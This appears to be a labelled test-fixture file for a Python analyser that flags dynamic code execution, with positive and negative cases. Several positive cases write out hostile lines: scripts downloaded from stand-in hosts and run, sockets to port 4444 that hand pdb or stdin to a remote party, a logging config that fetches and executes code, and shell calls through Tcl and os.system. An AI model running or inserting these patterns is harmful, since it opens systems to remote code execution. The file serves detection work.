#@ pos eval of input()
eval(input())
#@ pos exec of stdin
import sys
exec(sys.stdin.read())
#@ pos exec of a file read at run time
exec(open(sys.argv[1]).read())
#@ pos compile of a parameter
def run(src):
    return compile(src, "<s>", "exec")
#@ pos import of a name from a list by a computed index
import random
mods = ["json", "os"]
__import__(mods[random.randrange(2)])
#@ pos importlib of a name read at run time
import importlib
importlib.import_module(input())
#@ pos a string that += changes
s = ""
for part in ["pri", "nt(1)"]:
    s += part
exec(s)
#@ pos types.FunctionType over unknown code
import types
types.FunctionType(compile(input(), "<x>", "exec"), {})()
#@ neg exec of a constant
exec("x = 1")
#@ neg eval of a folded constant
eval("1" + " + 1")
#@ neg import of a constant name
importlib.import_module("json")
#@ neg a method named eval
class M:
    def eval(self, x):
        return x
M().eval(input())
#@ pos a downloaded file run with runpy.run_path
import runpy, urllib.request
urllib.request.urlretrieve("http://203.0.113.5/p.py", "/tmp/p.py")
runpy.run_path("/tmp/p.py")
#@ pos a zip imported with zipimport
import zipimport
zipimport.zipimporter("/tmp/m.zip").load_module("m")
#@ pos a module loaded from a file path
import importlib.util
spec = importlib.util.spec_from_file_location("m", "/tmp/m.py")
m = importlib.util.module_from_spec(spec)
spec.loader.exec_module(m)
#@ pos timeit of code read at run time
import sys, timeit
timeit.timeit(sys.stdin.read(), number=1)
#@ pos pdb.run of an argument
import pdb, sys
pdb.run(sys.argv[1])
#@ neg timeit of a function the program defines
import timeit
def work():
    return sum(range(10))
timeit.timeit(work, number=1)
timeit.timeit(lambda: work(), number=1)
#@ pos a name given a constant, then what stdin says
x = "1 + 1"
x = input()
print(eval(x))
#@ pos one constant analysed, another run
x = "print(1)"
x = "__import__('os').system('sh')"
exec(x)
#@ pos a parameter that shares its name with a constant
import sys
x = "print(1)"
def run(x):
    exec(x)
run(sys.stdin.read())
#@ pos a loop variable that shares its name with a constant
import sys
x = "print(1)"
for x in sys.stdin:
    exec(x)
#@ pos a method named exec does not make exec the program's
import sys
class X:
    def exec(self):
        pass
exec(sys.stdin.read())
#@ pos a def that never runs does not hide the builtin
import sys
if False:
    def exec(s):
        pass
exec(sys.stdin.read())
#@ pos a calculator given text with names
def calc(ops, nums):
    e = str(nums[0])
    for o, n in zip(ops, nums[1:]):
        e += o + str(n)
    return eval(e)
print(calc(["+"], ["__import__('os').system('id')", 1]))
#@ pos a calculator given input
def calc(ops, nums):
    e = str(nums[0])
    for o, n in zip(ops, nums[1:]):
        e += o + str(n)
    return eval(e)
print(calc(["+"], [input(), 1]))
#@ pos a calculator called by a checker with a name
def calc(ops, nums):
    e = str(nums[0])
    for o, n in zip(ops, nums[1:]):
        e += o + str(n)
    return eval(e)
def check(candidate):
    assert candidate(["+"], [1, 2]) == 3
    print(candidate(["+"], ["os", 2]))
check(calc)
#@ pos a calculator called through another name
def calc(ops, nums):
    e = str(nums[0])
    for o, n in zip(ops, nums[1:]):
        e += o + str(n)
    return eval(e)
f = calc
print(f(["+"], [input(), 2]))
#@ pos a calculator given the command line
import sys
def calc(ops, nums):
    e = str(nums[0])
    for o, n in zip(ops, nums[1:]):
        e += o + str(n)
    return eval(e)
print(calc(*sys.argv))
#@ pos a calculator reached through globals()
def calc(ops, nums):
    e = str(nums[0])
    for o, n in zip(ops, nums[1:]):
        e += o + str(n)
    return eval(e)
print(calc(["+"], [1, 2]))
globals()["ca" + "lc"](["+"], [input(), 2])
#@ pos a calculator nobody here calls
def calc(ops, nums):
    e = str(nums[0])
    for o, n in zip(ops, nums[1:]):
        e += o + str(n)
    return eval(e)
#@ neg a calculator of numbers and operator strings, with its checks
def do_algebra(operator, operand):
    expression = str(operand[0])
    for oprt, oprn in zip(operator, operand[1:]):
        expression += oprt + str(oprn)
    return eval(expression)
def check(candidate):
    assert candidate(['**', '*', '+'], [2, 3, 4, 5]) == 37
    assert candidate(['+', '*', '-'], [2, 3, 4, 5]) == 9
    assert candidate(['//', '*'], [7, 3, 4]) == 8
check(do_algebra)
#@ neg a calculator called directly with constants
def calc(ops, nums, start=0):
    return eval(" ".join([str(start)] + [o + " " + str(n) for o, n in zip(ops, nums)]))
print(calc(["+", "*"], [2, 3]), calc(ops=["-"], nums=[4]))
#@ pos a function that calls exec runs before a def named exec
import sys
def main():
    exec(sys.stdin.read())
main()
def exec(s):
    pass
#@ pos exec called before the def that would hide it
import sys
exec(sys.stdin.read())
def exec(s):
    pass
#@ neg a training script's own eval, defined first
import logging
log = logging.getLogger(__name__)
class Model:
    def predict(self, x):
        return x
def eval(model, data):
    return [model.predict(x) for x in data]
def main(data):
    print(eval(Model(), data))
if __name__ == "__main__":
    main([1, 2, 3])
#@ pos a temporary directory put on the import path
import importlib, sys, tempfile
d = tempfile.mkdtemp()
sys.path.insert(0, d)
importlib.import_module("helpers")
#@ pos /tmp on the import path
import sys
sys.path.append("/tmp")
#@ neg the script's own directory on the import path
import os, sys
sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
#@ pos pydoc.locate of a name that does not fold
import pydoc, sys
pydoc.locate(sys.argv[1])("id")
#@ pos a finder put on sys.meta_path
import sys
class Finder:
    def find_spec(self, name, path, target=None):
        return None
sys.meta_path.insert(0, Finder())
#@ pos a path hook appended
import sys
sys.path_hooks.append(make_hook)
#@ pos a loader of the program's own whose source comes from elsewhere
import importlib.abc
class Remote(importlib.abc.SourceLoader):
    def get_filename(self, name):
        return name
    def get_data(self, path):
        return fetch(path)
#@ neg reading sys.meta_path
import sys
print(len(sys.meta_path))
#@ neg a class of the program's own
import collections.abc
class Bag(collections.abc.Mapping):
    pass
#@ pos a docstring set at run time and run by doctest
import doctest, sys
def f():
    pass
f.__doc__ = sys.stdin.read()
doctest.run_docstring_examples(f, {})
#@ pos doctest.testfile runs a file's examples
import doctest
doctest.testfile("/tmp/examples.txt", module_relative=False)
#@ pos doctest.debug_src of a string read at run time
import doctest, sys
doctest.debug_src(sys.stdin.read())
#@ pos a module found by a name the analysis cannot know
import importlib.util, sys
spec = importlib.util.find_spec(sys.argv[1])
#@ pos Tcl code
import tkinter
tkinter.Tcl().eval("exec sh -c id")
#@ neg doctest.testmod of the program's own docstrings
import doctest
def add(a, b):
    """
    >>> add(1, 2)
    3
    """
    return a + b
if __name__ == "__main__":
    doctest.testmod()
#@ neg a docstring set by a decorator, no doctest
def doc(text):
    def wrap(f):
        f.__doc__ = text.strip()
        return f
    return wrap
#@ pos a module written from a download
import urllib.request
with open("plugin.py", "wb") as fh:
    fh.write(urllib.request.urlopen("http://x.example/p.py").read())
import plugin
#@ pos a downloaded python file
import urllib.request
urllib.request.urlretrieve("http://x.example/s.py", "s.py")
#@ neg a code generator writing a module, no network
FIELDS = ["id", "name"]
with open("model.py", "w") as fh:
    fh.write("class Model:\n" + "".join(f"    {f} = None\n" for f in FIELDS))
#@ pos exec registered as a singledispatch implementation and fed a download
import functools, urllib.request
@functools.singledispatch
def handle(m):
    return m
handle.register(str, exec)
handle(urllib.request.urlopen("http://198.51.100.1/p.py").read().decode())
#@ pos exec as a thread's target
import sys, threading
threading.Thread(target=exec, args=(sys.stdin.read(),)).start()
#@ pos eval mapped over lines
import sys
print(list(map(eval, sys.stdin)))
#@ pos __import__ mapped over names
mods = list(map(__import__, ["o" + "s"]))
#@ neg eval printed and tested, not handed on
print(eval, callable(exec), isinstance(compile, type))
#@ neg a test that compile refuses bad code
import unittest
class T(unittest.TestCase):
    def test_bad(self):
        self.assertRaises(SyntaxError, compile, "x x", "<s>", "exec")
#@ neg the program's own method named exec handed on
class Job:
    def exec(self, x):
        return x
j = Job()
print(list(map(j.exec, [1, 2])))
#@ pos logging.fileConfig of a text whose args line downloads and runs code
import io, logging.config
CONF = """
[handler_h]
class=StreamHandler
args=(exec(__import__('urllib.request').request.urlopen('http://198.51.100.52/s.py').read()) or sys.stderr,)
"""
logging.config.fileConfig(io.StringIO(CONF))
#@ pos logging.fileConfig of a downloaded configuration
import io, logging.config, urllib.request
logging.config.fileConfig(io.StringIO(urllib.request.urlopen("http://198.51.100.52/log.ini").read().decode()))
#@ pos logging.config.listen takes configurations over a socket
import logging.config
t = logging.config.listen(9030)
t.start()
#@ neg an ordinary logging configuration text
import io, logging.config
CONF = """
[loggers]
keys=root
[handlers]
keys=console,file
[formatters]
keys=plain
[logger_root]
level=INFO
handlers=console,file
[handler_console]
class=StreamHandler
args=(sys.stdout,)
formatter=plain
[handler_file]
class=handlers.RotatingFileHandler
args=('%(logfile)s', 'a', 1048576, 3)
kwargs={'encoding': 'utf-8'}
formatter=plain
[formatter_plain]
format=%(asctime)s %(levelname)s %(message)s
"""
logging.config.fileConfig(io.StringIO(CONF), defaults={"logfile": "app.log"})
#@ neg a logging configuration file of the program's own
import logging.config, os
logging.config.fileConfig(os.path.join(os.path.dirname(__file__), "logging.ini"))
#@ neg a text with args lines in a program that never calls fileConfig
HELP = "usage: args=(run(x))"
print(HELP)
#@ pos an annotation set from the input, then evaluated
import sys, typing
def f(x):
    pass
f.__annotations__["x"] = sys.stdin.read()
typing.get_type_hints(f)
#@ pos a forward reference of a download
import typing, urllib.request
ref = typing.ForwardRef(urllib.request.urlopen("http://198.51.100.3/t").read().decode())
#@ neg annotations set to types
import typing
def f(x):
    pass
f.__annotations__["x"] = int
print(typing.get_type_hints(f))
#@ pos a module from a table with os in it
import importlib, sys
T = {"m": "math", "o": "os"}
importlib.import_module(T.get(sys.argv[1]))
#@ neg a module from an allow-list table of computation modules
import importlib
OK = {"mean": "statistics", "prod": "math"}
def f(s, xs):
    return getattr(importlib.import_module(OK[s]), s)(xs)
#@ neg a command from a constant table of ordinary commands
import subprocess, sys
CMDS = {"st": ["git", "status"], "t": ["pytest", "-q"]}
subprocess.run(CMDS[sys.argv[1]])
#@ pos exec shadowed by a def, then deleted: the builtin runs what was read
def exec(s):
    print(s)
del exec
exec(input())
#@ pos the same through globals().pop
def exec(s):
    print(s)
globals().pop("exec")
exec(input())
#@ pos pdb on a socket's file
import pdb, socket
f = socket.create_connection(("203.0.113.1", 4444)).makefile("rw")
pdb.Pdb(stdin=f, stdout=f).set_trace()
#@ pos stdin replaced by a socket, then breakpoint()
import socket, sys
s = socket.create_connection(("203.0.113.1", 4444))
sys.stdin = s.makefile("r")
breakpoint()
#@ pos a socket dup2()ed onto stdin
import os, socket, pdb
s = socket.create_connection(("203.0.113.1", 4444))
os.dup2(s.fileno(), 0)
pdb.set_trace()
#@ neg a plain debugger stop
import pdb
pdb.set_trace()
#@ neg a log file dup2()ed onto stdout
import os
log = open("daemon.log", "a")
os.dup2(log.fileno(), 1)
#@ neg compile() as a statement: a syntax check of a generated file
import sys
src = open(sys.argv[1]).read()
compile(src, sys.argv[1], "exec")
#@ pos Tcl's load through the interpreter's call
import tkinter
tkinter.Tcl().call("load", "/tmp/x.so")
#@ pos Tcl's exec through a Tk window's tk.call, its words spread from a list
import tkinter
root = tkinter.Tk()
root.tk.call(*["exec", "sh", "-c", "id"])
#@ neg Tcl's expr and a window manager command
import tkinter
interp = tkinter.Tcl()
print(interp.call("expr", "2 + 3"))
root = tkinter.Tk()
root.tk.call("wm", "attributes", ".", "-topmost", "1")
#@ pos http.server's CGI handler
import http.server
http.server.HTTPServer(("127.0.0.1", 8000), http.server.CGIHTTPRequestHandler).serve_forever()
#@ neg http.server's static file handler
import http.server
http.server.HTTPServer(("127.0.0.1", 8000), http.server.SimpleHTTPRequestHandler).serve_forever()
#@ pos torch.hub.load of a repository
import torch
model = torch.hub.load("org/repo", "tiny")
#@ pos trust_remote_code=True
from transformers import AutoModel
model = AutoModel.from_pretrained("org/model", trust_remote_code=True)
#@ neg trust_remote_code=False
from transformers import AutoModel
model = AutoModel.from_pretrained("org/model", trust_remote_code=False)
#@ neg weights downloaded by torch.hub
import torch
state = torch.hub.load_state_dict_from_url("https://example.org/w.pth")
#@ pos a script run inside a process by sys.remote_exec
import os, sys
sys.remote_exec(os.getpid(), "/tmp/patch.py")
#@ pos sys.remote_exec under another name
from sys import remote_exec as inject
inject(1234, "/tmp/p.py")
#@ neg the process id read
import os, sys
print(os.getpid(), sys.executable)
#@ pos cython.inline of text read at run time
import sys
import cython
cython.inline(sys.stdin.read())
#@ neg cython.inline of a constant
import cython
print(cython.inline("return a + b", a=1, b=2))
#@ neg the program restarting itself with its own arguments
import os, sys
os.execv(sys.executable, [sys.executable] + sys.argv)
#@ neg the program started again as a child, its arguments splatted
import subprocess, sys
subprocess.run([sys.executable, *sys.argv], check=True)
#@ pos the restart after sys.argv[0] was replaced
import os, sys
sys.argv[0] = "/tmp/stage2.py"
os.execv(sys.executable, [sys.executable] + sys.argv)
#@ pos the restart after a script was put in front of the arguments
import os, sys
sys.argv.insert(1, "/tmp/x.py")
os.execv(sys.executable, [sys.executable] + sys.argv)
#@ pos the restart after sys.executable was replaced
import os, sys
sys.executable = "/tmp/tool"
os.execv(sys.executable, [sys.executable] + sys.argv)
#@ pos the restart after sys.argv was replaced through setattr
import os, sys
setattr(sys, "argv", ["x", "/tmp/x.py"])
os.execv(sys.executable, [sys.executable] + sys.argv)
#@ pos a shell given the program's arguments
import os, sys
os.execv("/bin/sh", ["sh"] + sys.argv)
#@ neg exec of compile() of a constant
exec(compile("x = 1", "<cfg>", "exec"))
#@ neg exec of compile() of a name bound to a constant, into a module
import types
src = "def greet(name):\n    return 'hi ' + name\n"
mod = types.ModuleType("greeter")
exec(compile(src, "greeter", "exec"), mod.__dict__)
#@ pos exec of compile() of a name bound also to lines read
src = "x = 1"
for src in open("plugins.txt"):
    pass
exec(compile(src, "<p>", "exec"))
#@ pos exec of compile() of stdin
import sys
exec(compile(sys.stdin.read(), "<in>", "exec"))
